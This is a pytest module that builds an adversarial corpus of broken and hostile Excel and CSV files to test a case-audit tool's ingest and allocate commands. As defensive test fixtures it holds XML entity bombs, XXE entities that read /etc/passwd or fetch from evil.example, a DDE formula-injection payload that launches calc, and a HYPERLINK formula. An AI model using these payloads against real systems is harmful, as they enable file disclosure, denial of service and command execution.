"""The adversarial corpus (issue 7 items 1 and 7): hostile and broken files, built in tmp_path.

Every file is one a real QA inbox could receive: returns cut short in an e-mail,
renamed PDFs, old .xls, password-protected workbooks, XML bombs, zip bombs,
wrong types in cells, 10,000-row sheets, names in any script, right-to-left
text, emoji, very long comments, merged cells, byte-order marks. Each must end
in a clean accept or a clean reject: exit 0 or 1, never a traceback; a
rejection names the file and a rule ID; the register is never half-written
(every stored return has all its domain grades, and integrity_check passes).

``CORPUS_SIZE`` counts the files tried (README "Safety").
"""

from __future__ import annotations

import io
import json
import random
import re
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from qaf.cli import app
from qaf.config import Config, read_config
from qaf.ingest import ingest_paths
from qaf.register import Register
from qaf.samples.simulate import simulate_answers, write_surveymonkey_export
from tests.conftest import build_small_dir
from tests.ingest_books import allocation, setup_register
from tests.test_ingest import edit, find, grade_cell, make_return
from tests.zip_parts import zip_of, zip_parts

AS_OF = "2027-01-08"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
RULE_ID = re.compile(r"^[A-Z]\d{1,2}$")


@pytest.fixture
def cfg(small_dir: Path) -> Config:
    return read_config(small_dir / "qaf.toml")


def good_return(cfg: Config, tmp_path: Path) -> Path:
    alloc = allocation("2026-12-001", "P000001")
    path, _ = make_return(cfg, alloc, tmp_path / "good" / "2026-12-001.xlsx", seed=4)
    return path


# ------------------------------------------------------------------ builders


def _replace(good: Path, name: str, data: bytes) -> bytes:
    return zip_of({**zip_parts(good), name: data})


def _laughs(root: bytes) -> bytes:
    entities = b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(2, 10)
    )
    return (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol1 "lol">'
        + entities
        + b"]><"
        + root
        + b' xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&lol9;</'
        + root
        + b">"
    )


def _flip(data: bytes, at: float) -> bytes:
    b = bytearray(data)
    i = int(len(b) * at)
    b[i] ^= 0xFF
    return bytes(b)


def _edited(good: Path, out: Path, changes: Callable[[Path], dict[str, object]]) -> Path:
    out.write_bytes(good.read_bytes())
    edit(out, changes(out))
    return out


def _with_sheet(good: Path, out: Path, fn: Callable[..., None]) -> Path:
    wb = load_workbook(good)
    fn(wb)
    wb.save(out)
    return out


def _ten_thousand_rows(good: Path, part: str, text: str) -> bytes:
    """10,000 rows below a sheet's last one, written as XML (openpyxl takes seconds)."""
    xml = zip_parts(good)[part]
    last = max(int(n) for n in re.findall(rb'<row r="(\d+)"', xml))
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>%s %d</t></is></c>'
        b'<c r="B%d"><v>%d.5</v></c></row>' % (r, r, text.encode(), r, r, r)
        for r in range(last + 3, last + 10_003)
    )
    return _replace(good, part, xml.replace(b"</sheetData>", rows + b"</sheetData>", 1))


def _emoji_sheet_name(wb: object) -> None:
    wb.worksheets[0].title = "Audit 📋 تدقيق"  # type: ignore[attr-defined]


def _merged_rationale(wb: object) -> None:
    ws = wb.worksheets[0]  # type: ignore[attr-defined]
    for row in ws.iter_rows():
        for c in row:
            if c.value == "Rationale":
                ws.merge_cells(
                    start_row=c.row + 1,
                    start_column=c.column,
                    end_row=c.row + 3,
                    end_column=c.column + 2,
                )
                return


def _merged_labels(wb: object) -> None:
    ws = wb.worksheets[0]  # type: ignore[attr-defined]
    for row in ws.iter_rows(max_col=1):
        c = row[0]
        if c.value in ("Overall grade", "Auditor", "Case ID"):
            ws.merge_cells(start_row=c.row, start_column=1, end_row=c.row + 1, end_column=1)


def _huge_merge(good: Path) -> bytes:
    """A merged range over most of the sheet (written as XML: openpyxl would fill it)."""
    name = "xl/worksheets/sheet1.xml"
    xml = zip_parts(good)[name]
    assert b"<mergeCells" not in xml
    merge = b'<mergeCells count="1"><mergeCell ref="H200:XFD1048576"/></mergeCells>'
    return _replace(good, name, xml.replace(b"</sheetData>", b"</sheetData>" + merge, 1))


def _hidden_sheet_lies(wb: object) -> None:
    hidden = wb["qaf"]  # type: ignore[index]
    hidden["B1"] = "2099-01-999"
    hidden["B4"] = '=HYPERLINK("http://evil.example","x")'


LONG = ("Lorem ipsum dolor sit amet; " * 1200)[:32_767]  # Excel's cell limit
RTL = "\u202eالطفل آمن\u202c שלום — مراجعة الحالة"
EMOJI = "👍🏽 good work 🚸👨‍👩‍👧‍👦 \U0001f9d2"
UNICODE_NAME = "Zoë Ångström-Ñúñez 王秀英 Ōkubo"


def workbook_corpus(cfg: Config, good: Path, tmp: Path) -> dict[str, Path]:
    """Name -> a hostile or broken return built from a good one."""
    data = good.read_bytes()
    domain = cfg.tools["case-audit"].domains[0].id
    out: dict[str, Path] = {}

    def put(name: str, content: bytes) -> None:
        p = tmp / f"{name}.xlsx"
        p.write_bytes(content)
        out[name] = p

    # not a workbook at all
    put("zero-byte", b"")
    put("renamed-pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n%%EOF")
    put("old-xls", OLE + b"\0" * 600 + "Workbook".encode("utf-16-le") + b"\0" * 400)
    put(
        "password-protected",
        OLE
        + b"\0" * 600
        + "EncryptionInfo".encode("utf-16-le")
        + "EncryptedPackage".encode("utf-16-le"),
    )
    put("html-saved-as-xlsx", b"<html><body><table><tr><td>Good</td></tr></table></body></html>")
    put("plain-text", b"Audit ID: 2026-12-001\r\nOverall grade: Good\r\n")
    put("random-bytes", random.Random(7).randbytes(5000))
    put("word-document", zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}))
    put("opendocument", zip_of({"mimetype": b"application/vnd.oasis", "content.xml": b"<o/>"}))
    put("empty-zip", zip_of({}))
    # cut short or damaged in transit
    for frac in (0.1, 0.5, 0.9):
        put(f"truncated-{int(frac * 100)}pct", data[: int(len(data) * frac)])
    put("truncated-last-byte", data[:-1])
    put("truncated-before-directory", data[: data.rfind(b"PK\x01\x02")])
    put("flipped-byte-early", _flip(data, 0.2))
    put("flipped-byte-middle", _flip(data, 0.5))
    put("zeroed-middle", data[: len(data) // 3] + b"\0" * 300 + data[len(data) // 3 + 300 :])
    put("doubled", data + data)
    # XML attacks and bombs
    put("billion-laughs-sheet", _replace(good, "xl/worksheets/sheet1.xml", _laughs(b"worksheet")))
    put("billion-laughs-strings", _replace(good, "xl/sharedStrings.xml", _laughs(b"sst")))
    put(
        "external-entity",
        _replace(
            good,
            "xl/workbook.xml",
            b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b"&x;</workbook>",
        ),
    )
    put(
        "parameter-entity",
        _replace(
            good,
            "xl/styles.xml",
            b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>'
            b"<styleSheet/>",
        ),
    )
    put(
        "utf16-doctype",
        _replace(
            good,
            "docProps/app.xml",
            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY a "b">]><a>&a;</a>'.encode(
                "utf-16"
            ),
        ),
    )
    put(
        "zip-bomb",
        _replace(good, "xl/worksheets/sheet1.xml", b"<x>" + b" " * (8 << 20) + b"</x>"),
    )
    put(
        "thousands-of-parts",
        zip_of({**zip_parts(good), **{f"x/{i}.bin": b"" for i in range(2500)}}),
    )
    put(
        "broken-xml",
        _replace(good, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row><c r="),
    )
    put(
        "missing-sheet-part",
        zip_of({k: v for k, v in zip_parts(good).items() if "sheet1" not in k}),
    )
    put(
        "far-away-cell",
        _replace(
            good,
            "xl/worksheets/sheet1.xml",
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is>'
            b"</c></row></sheetData></worksheet>",
        ),
    )

    put("huge-merged-range", _huge_merge(good))
    put("ten-thousand-rows", _ten_thousand_rows(good, "xl/worksheets/sheet1.xml", "note"))
    put(
        "ten-thousand-rows-hidden-sheet",
        _ten_thousand_rows(good, "xl/worksheets/sheet2.xml", "Overall grade"),
    )

    # wrong types in cells
    def cells(name: str, changes: Callable[[Path], dict[str, object]]) -> None:
        out[name] = _edited(good, tmp / f"{name}.xlsx", changes)

    cells("grade-is-a-number-out-of-range", lambda p: {find(p, "Overall grade"): 7})
    cells("grade-is-a-date", lambda p: {grade_cell(p, domain): datetime(2026, 12, 1)})
    cells("grade-is-true", lambda p: {grade_cell(p, domain): True})
    cells("grade-is-a-formula", lambda p: {find(p, "Overall grade"): "=1+1"})
    cells("audit-date-is-words", lambda p: {find(p, "Date of audit"): "last Tuesday"})
    cells("audit-date-serial-huge", lambda p: {find(p, "Date of audit"): 1e12})
    cells("audit-date-serial-negative", lambda p: {find(p, "Date of audit"): -5})
    cells("audit-date-year-9999", lambda p: {find(p, "Date of audit"): "31/12/9999"})
    cells("audit-id-is-a-number", lambda p: {find(p, "Audit ID"): 2026.12})
    cells("case-id-is-a-date", lambda p: {find(p, "Case ID"): date(2026, 1, 1)})
    cells("rationale-is-a-number", lambda p: {find(p, "Rationale for overall grade"): 42})
    cells("everything-blank", lambda p: {find(p, "Overall grade"): None, find(p, "Auditor"): None})
    # text from anywhere
    cells("unicode-auditor-name", lambda p: {find(p, "Auditor"): UNICODE_NAME})
    cells("right-to-left-text", lambda p: {find(p, "Rationale for overall grade"): RTL})
    cells("emoji", lambda p: {find(p, "Rationale for overall grade"): EMOJI})
    cells(
        "very-long-comments",
        lambda p: {
            find(p, "Summary of strengths and areas for improvement"): LONG,
            find(p, "Social worker's comments"): LONG,
        },
    )
    cells("formula-injection-text", lambda p: {find(p, "Rationale for overall grade"): "@SUM(1)"})
    cells("zero-width-label-value", lambda p: {find(p, "Overall grade"): "\u200bGood\u200b"})
    # layout
    for name, fn in (
        ("emoji-sheet-name", _emoji_sheet_name),
        ("merged-rationale", _merged_rationale),
        ("merged-labels", _merged_labels),
        ("hidden-sheet-lies", _hidden_sheet_lies),
    ):
        out[name] = _with_sheet(good, tmp / f"{name}.xlsx", fn)
    return out


WORKBOOK_NAMES = [
    "zero-byte",
    "renamed-pdf",
    "old-xls",
    "password-protected",
    "html-saved-as-xlsx",
    "plain-text",
    "random-bytes",
    "word-document",
    "opendocument",
    "empty-zip",
    "truncated-10pct",
    "truncated-50pct",
    "truncated-90pct",
    "truncated-last-byte",
    "truncated-before-directory",
    "flipped-byte-early",
    "flipped-byte-middle",
    "zeroed-middle",
    "doubled",
    "billion-laughs-sheet",
    "billion-laughs-strings",
    "external-entity",
    "parameter-entity",
    "utf16-doctype",
    "zip-bomb",
    "thousands-of-parts",
    "broken-xml",
    "missing-sheet-part",
    "far-away-cell",
    "grade-is-a-number-out-of-range",
    "grade-is-a-date",
    "grade-is-true",
    "grade-is-a-formula",
    "audit-date-is-words",
    "audit-date-serial-huge",
    "audit-date-serial-negative",
    "audit-date-year-9999",
    "audit-id-is-a-number",
    "case-id-is-a-date",
    "rationale-is-a-number",
    "everything-blank",
    "unicode-auditor-name",
    "right-to-left-text",
    "emoji",
    "very-long-comments",
    "formula-injection-text",
    "zero-width-label-value",
    "ten-thousand-rows",
    "ten-thousand-rows-hidden-sheet",
    "emoji-sheet-name",
    "merged-rationale",
    "merged-labels",
    "huge-merged-range",
    "hidden-sheet-lies",
]

# Files that must be refused (the rest may be accepted or refused, but cleanly).
MUST_REJECT = {
    "zero-byte": "I1",
    "renamed-pdf": "I1",
    "old-xls": "I1",
    "password-protected": "I1",
    "html-saved-as-xlsx": "I1",
    "random-bytes": "I1",
    "truncated-50pct": "I1",
    "truncated-before-directory": "I1",
    "billion-laughs-sheet": "I1",
    "billion-laughs-strings": "I1",
    "external-entity": "I1",
    "parameter-entity": "I1",
    "utf16-doctype": "I1",
    "zip-bomb": "I1",
    "thousands-of-parts": "I1",
    "far-away-cell": "I1",
}
MUST_ACCEPT = {
    "unicode-auditor-name",
    "right-to-left-text",
    "emoji",
    "very-long-comments",
    "formula-injection-text",
    "ten-thousand-rows",
    "ten-thousand-rows-hidden-sheet",
    "huge-merged-range",
}


def assert_register_whole(cfg: Config, accepted: int) -> None:
    """Nothing half-written: integrity holds; each stored return has every domain."""
    domains = len(cfg.tools["case-audit"].domains)
    with Register.open(cfg.register_path) as reg:
        assert reg.integrity_check() == []
        assert reg.scalar("SELECT count(*) FROM returns") == accepted
        assert reg.scalar("SELECT count(*) FROM ingested_files") == accepted
        short = reg.query(
            "SELECT r.id FROM returns r LEFT JOIN domain_grades d ON d.return_id = r.id "
            "GROUP BY r.id HAVING count(d.domain_id) != ?",
            (domains,),
        )
        assert short == []


def assert_clean(result: object, path: Path) -> dict[str, object]:
    exc = getattr(result, "exception", None)
    assert exc is None or isinstance(exc, SystemExit), repr(exc)
    out = getattr(result, "stdout", "") + getattr(result, "stderr", "")
    assert "Traceback" not in out
    code = getattr(result, "exit_code", None)
    assert code in (0, 1), out
    data: dict[str, object] = json.loads(getattr(result, "stdout", ""))
    files = data["files"]
    assert isinstance(files, list) and files
    for f in files:
        assert f["path"] == str(path)
        assert f["status"] in ("accepted", "rejected")
        if f["status"] == "rejected":
            errors = [p for p in f["problems"] if p["level"] == "error"]
            assert errors, f
            for p in errors:
                assert RULE_ID.match(p["rule"]) and p["message"]
                assert "\n" not in p["message"] and "Traceback" not in p["message"]
    assert (code == 1) == any(f["status"] == "rejected" for f in files)
    return data


def ingest_cli(cfg: Config, path: Path) -> object:
    args = ["ingest", str(path), "--config", str(cfg.path), "--as-of", AS_OF, "--format", "json"]
    return CliRunner().invoke(app, args)


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The workbook corpus, built once for the module from a good return."""
    base = tmp_path_factory.mktemp("corpus")
    cfg = read_config(build_small_dir(base) / "qaf.toml")
    good = good_return(cfg, base)
    files = workbook_corpus(cfg, good, base)
    assert sorted(files) == sorted(WORKBOOK_NAMES)
    return files


@pytest.mark.parametrize("name", WORKBOOK_NAMES)
def test_hostile_or_broken_return_is_a_clean_accept_or_reject(
    cfg: Config, corpus: dict[str, Path], name: str
) -> None:
    """Rules I1-I5: `qaf ingest` on each file of the corpus, into a register that expects it."""
    setup_register(cfg, [allocation("2026-12-001", "P000001")])
    path = corpus[name]
    data = assert_clean(ingest_cli(cfg, path), path)
    files = data["files"]
    assert isinstance(files, list)
    status = files[0]["status"]
    if name in MUST_REJECT:
        assert status == "rejected"
        assert files[0]["problems"][0]["rule"] == MUST_REJECT[name]
    if name in MUST_ACCEPT:
        assert status == "accepted", files[0]["problems"]
    assert_register_whole(cfg, 1 if status == "accepted" else 0)


# ------------------------------------------------------------ SurveyMonkey CSV


def csv_corpus(cfg: Config, base: Path) -> dict[str, Path]:
    """Name -> a hostile or broken SurveyMonkey export (CSV) built from a good one."""
    alloc = allocation("2026-12-001", "P000001")
    tool = cfg.tools["case-audit"]
    ret = simulate_answers(alloc, tool, random.Random(5))
    good = write_surveymonkey_export([ret], tool, base / "good.csv").read_bytes()
    assert good.startswith(b"\xef\xbb\xbf")
    body = good[3:]
    text = body.decode("utf-8")
    lines = text.split("\r\n")
    header, rows = "\r\n".join(lines[:2]), [x for x in lines[2:] if x]
    files = {
        "csv-with-bom": good,
        "csv-without-bom": body,
        "csv-windows-1252": text.replace("—", "-").encode("cp1252", errors="replace"),
        "csv-utf16": text.encode("utf-16"),
        "csv-undefined-cp1252-bytes": body + b"\x81\x8d\x8f\x90\x9d",
        "csv-empty": b"",
        "csv-bom-only": b"\xef\xbb\xbf",
        "csv-header-only": header.encode(),
        "csv-first-row-only": lines[0].encode(),
        "csv-truncated-mid-row": good[: len(good) - len(rows[0]) // 2],
        "csv-nul-bytes": body[:50] + b"\x00\x00" + body[50:],
        "csv-nul-far-in": body + b"\r\n" + b"x" * 5000 + b"\x00,y\r\n",
        "csv-unterminated-quote": body + b'\r\n"never closed,' + b"a" * 100,
        "csv-field-over-128k": body + b'\r\n"' + b"a" * 200_000 + b'"\r\n',
        "csv-ten-thousand-rows-not-an-export": (
            "Case ID,Grade\r\n" + "".join(f"P{i:06d},Good\r\n" for i in range(10_000))
        ).encode(),
        "csv-rtl-emoji-unicode": (
            header + "\r\n" + rows[0].replace(",Good,", f",Good {EMOJI},", 1) + "\r\n"
        ).encode()
        + RTL.encode(),
        "csv-xlsx-renamed": zip_of({"xl/workbook.xml": b"<workbook/>"}),
        "csv-pdf-renamed": b"%PDF-1.4\n%%EOF",
        "csv-formula-cells": (header + "\r\n" + rows[0] + ',=HYPERLINK("http://x")\r\n').encode(),
    }
    out = {}
    for name, data in files.items():
        p = base / f"{name}.csv"
        p.write_bytes(data)
        out[name] = p
    return out


CSV_NAMES = [
    "csv-with-bom",
    "csv-without-bom",
    "csv-windows-1252",
    "csv-utf16",
    "csv-undefined-cp1252-bytes",
    "csv-empty",
    "csv-bom-only",
    "csv-header-only",
    "csv-first-row-only",
    "csv-truncated-mid-row",
    "csv-nul-bytes",
    "csv-nul-far-in",
    "csv-unterminated-quote",
    "csv-field-over-128k",
    "csv-ten-thousand-rows-not-an-export",
    "csv-rtl-emoji-unicode",
    "csv-xlsx-renamed",
    "csv-pdf-renamed",
    "csv-formula-cells",
]


@pytest.fixture(scope="module")
def csvs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("csvs")
    cfg = read_config(build_small_dir(base) / "qaf.toml")
    files = csv_corpus(cfg, base)
    assert sorted(files) == sorted(CSV_NAMES)
    return files


@pytest.mark.parametrize("name", CSV_NAMES)
def test_hostile_or_broken_export_is_a_clean_accept_or_reject(
    cfg: Config, csvs: dict[str, Path], name: str
) -> None:
    """Rules I1-I5 for SurveyMonkey CSV exports."""
    setup_register(cfg, [allocation("2026-12-001", "P000001")])
    path = csvs[name]
    data = assert_clean(ingest_cli(cfg, path), path)
    files = data["files"]
    assert isinstance(files, list)
    accepted = sum(f["status"] == "accepted" for f in files)
    if name in ("csv-with-bom", "csv-without-bom", "csv-utf16"):
        assert accepted == 1, files
    if name in ("csv-empty", "csv-nul-bytes", "csv-xlsx-renamed", "csv-pdf-renamed"):
        assert files[0]["problems"][0]["rule"] == "I1"
    assert_register_whole(cfg, accepted)


# ------------------------------------------------------- case lists and rosters


def case_list_corpus(base: Path) -> dict[str, tuple[str, bytes]]:
    """Name -> (file name, bytes) of a case list that `qaf allocate` must take or refuse."""
    from openpyxl import Workbook

    headers = [
        "Child Unique ID",
        "Child Name",
        "Allocated Team",
        "Allocated Worker",
        "Service Area",
        "Category",
        "Case Status",
    ]

    def csv_bytes(rows: list[list[object]], bom: bool = False) -> bytes:
        import csv as csv_module

        buf = io.StringIO()
        w = csv_module.writer(buf)
        w.writerow(headers)
        w.writerows(rows)
        return (b"\xef\xbb\xbf" if bom else b"") + buf.getvalue().encode("utf-8")

    def xlsx_bytes(rows: list[list[object]]) -> bytes:
        wb = Workbook()
        ws = wb.active
        assert ws is not None
        ws.append(headers)
        for r in rows:
            ws.append(r)
        buf = io.BytesIO()
        wb.save(buf)
        return buf.getvalue()

    row = ["P000001", "Ada Fictional", "Team A", "Sam Worker", "Service 1", "CiN", "Open"]
    many = [
        [
            f"P{i:06d}",
            f"Child {i}",
            "Team A" if i % 2 else "Team B",
            "Sam Worker" if i % 2 else "Kim Worker",
            "Service 1",
            "CP",
            "Open",
        ]
        for i in range(1, 10_001)
    ]
    good_xlsx = xlsx_bytes([row])
    return {
        "cases-bom": ("cases.csv", csv_bytes([row], bom=True)),
        "cases-ten-thousand-rows-csv": ("cases.csv", csv_bytes(many)),
        "cases-ten-thousand-rows-xlsx": ("cases.xlsx", xlsx_bytes(many)),
        "cases-unicode-rtl-emoji": (
            "cases.csv",
            csv_bytes(
                [
                    ["P000001", UNICODE_NAME, "Team A", "Sam Worker", "Service 1", "CiN", "Open"],
                    ["P000002", RTL, "Team A", "Sam Worker", "Service 1", "CP", "Open"],
                    ["P000004", EMOJI, "Team A", "Sam Worker", "Service 1", "CP", "Open"],
                ]
            ),
        ),
        "cases-wrong-types": (
            "cases.xlsx",
            xlsx_bytes(
                [
                    [1001.0, 3, date(2026, 1, 1), True, 2.5, None, "Open"],
                    [datetime(2026, 1, 1), None, "Team A", "Sam Worker", "Service 1", "CP", 0],
                ]
            ),
        ),
        "cases-duplicates-and-blanks": ("cases.csv", csv_bytes([row, row, ["", "", ""], []])),
        "cases-missing-column": ("cases.csv", b"Child Unique ID,Team\r\nP1,A\r\n"),
        "cases-header-only": ("cases.csv", csv_bytes([])),
        "cases-zero-byte": ("cases.csv", b""),
        "cases-truncated-xlsx": ("cases.xlsx", good_xlsx[: len(good_xlsx) // 2]),
        "cases-billion-laughs": (
            "cases.xlsx",
            zip_of({**_parts_of(good_xlsx), "xl/sharedStrings.xml": _laughs(b"sst")}),
        ),
        "cases-renamed-pdf": ("cases.xlsx", b"%PDF-1.5\n%%EOF"),
        "cases-old-xls": ("cases.xls", OLE + b"\0" * 600 + "Workbook".encode("utf-16-le")),
        "cases-long-field-csv": ("cases.csv", csv_bytes([[*row[:6], "x" * 200_000]])),
        "cases-formula-text": (
            "cases.csv",
            csv_bytes(
                [
                    [
                        "P000001",
                        "=cmd|' /C calc'!A0",
                        "Team A",
                        "Sam Worker",
                        "Service 1",
                        "+CiN",
                        "Open",
                    ]
                ]
            ),
        ),
    }


def _parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


CASE_LIST_NAMES = [
    "cases-bom",
    "cases-ten-thousand-rows-csv",
    "cases-ten-thousand-rows-xlsx",
    "cases-unicode-rtl-emoji",
    "cases-wrong-types",
    "cases-duplicates-and-blanks",
    "cases-missing-column",
    "cases-header-only",
    "cases-zero-byte",
    "cases-truncated-xlsx",
    "cases-billion-laughs",
    "cases-renamed-pdf",
    "cases-old-xls",
    "cases-long-field-csv",
    "cases-formula-text",
]


@pytest.fixture(scope="module")
def case_lists(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, bytes]]:
    files = case_list_corpus(tmp_path_factory.mktemp("cases"))
    assert sorted(files) == sorted(CASE_LIST_NAMES)
    return files


WRONG_CONTENTS = {"cases-missing-column"}


@pytest.mark.parametrize("name", CASE_LIST_NAMES)
def test_hostile_or_broken_case_list_allocates_whole_or_refuses_cleanly(
    small_dir: Path, case_lists: dict[str, tuple[str, bytes]], name: str
) -> None:
    """`qaf allocate` on each case list: exit 0/1 with a whole cycle, or a one-line refusal
    naming the file (exit 1 for wrong contents; exit 2 and rule I1 for unreadable files),
    nothing recorded (rules S1-S3)."""
    file_name, content = case_lists[name]
    (small_dir / "data" / file_name).write_bytes(content)
    toml = small_dir / "qaf.toml"
    toml.write_text(
        toml.read_text(encoding="utf-8").replace("data/cases.csv", f"data/{file_name}"),
        encoding="utf-8",
    )
    result = CliRunner().invoke(
        app,
        [
            "allocate",
            "--month",
            "2026-12",
            "--seed",
            "3",
            "--config",
            str(toml),
            "--as-of",
            "2026-12-01",
            "--format",
            "json",
        ],
    )
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    assert "Traceback" not in result.stdout + result.stderr
    assert result.exit_code in (0, 1, 2), result.stderr
    register = small_dir / "qaf.db"
    if result.stdout:  # allocated: the cycle is recorded whole
        data = json.loads(result.stdout)
        with Register.open(register) as reg:
            assert reg.integrity_check() == []
            assert reg.scalar("SELECT count(*) FROM allocations") == len(data["allocations"])
            assert reg.scalar("SELECT count(*) FROM cycles") == 1
    else:  # refused: one line naming the file, nothing recorded
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1, result.stderr
        assert file_name in lines[0]
        # a readable file whose contents are wrong (a mapped column missing): exit 1, like
        # any invalid input; a file that is unusable or unsafe (I1): exit 2, fix the setup
        assert result.exit_code == (1 if name in WRONG_CONTENTS else 2), result.stderr
        if register.exists():
            with Register.open(register) as reg:
                assert reg.scalar("SELECT count(*) FROM cycles") == 0


# ------------------------------------------------------------ random corruption

FUZZ_FILES = 120


def _mutate(data: bytes, rng: random.Random) -> bytes:
    """Damage of the kinds e-mail and disks do: flipped bytes, cut tails, zeroed or lost spans."""
    b = bytearray(data)
    kind = rng.randrange(4)
    if kind == 0:
        for _ in range(rng.randint(1, 8)):
            b[rng.randrange(len(b))] = rng.randrange(256)
    elif kind == 1:
        del b[rng.randrange(1, len(b)) :]
    elif kind == 2:
        i = rng.randrange(len(b))
        b[i : i + rng.randint(1, 500)] = bytes(min(500, len(b) - i))
    else:
        i = rng.randrange(len(b))
        del b[i : i + rng.randint(1, 200)]
    return bytes(b)


def test_randomly_corrupted_returns_never_crash_or_half_write(
    cfg: Config, corpus: dict[str, Path], tmp_path: Path
) -> None:
    """FUZZ_FILES seeded corruptions of a good return, ingested as one folder (rule I1)."""
    setup_register(cfg, [allocation("2026-12-001", "P000001")])
    good = (corpus["emoji"].parent / "good" / "2026-12-001.xlsx").read_bytes()
    folder = tmp_path / "fuzz"
    folder.mkdir()
    parts = _parts_of(good)
    xml_names = ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/workbook.xml"]
    for seed in range(FUZZ_FILES):
        rng = random.Random(seed)
        if seed % 2:  # damage in transit: the zip itself
            data = _mutate(good, rng)
        else:  # damage inside a well-formed zip: the XML the reader parses
            name = xml_names[seed % 3]
            data = zip_of({**parts, name: _mutate(parts[name], rng)})
        (folder / f"fuzz-{seed:03d}.xlsx").write_bytes(data)
    report = ingest_paths(cfg, [folder], as_of=date(2027, 1, 8))
    assert len(report.files) == FUZZ_FILES
    for f in report.files:
        assert f.status in ("accepted", "superseded", "rejected", "already-ingested"), f
        if f.status == "rejected":
            assert any(p.level == "error" and RULE_ID.match(p.rule) for p in f.problems)
    accepted = sum(f.status in ("accepted", "superseded") for f in report.files)
    rejected = sum(f.status == "rejected" for f in report.files)
    assert accepted and rejected  # the corruptions reach the reader, not just the zip check
    assert_register_whole(cfg, accepted)


CORPUS_SIZE = len(WORKBOOK_NAMES) + len(CSV_NAMES) + len(CASE_LIST_NAMES) + FUZZ_FILES


def test_corpus_size_is_what_the_readme_says() -> None:
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    assert f"{CORPUS_SIZE} hostile or broken files" in readme
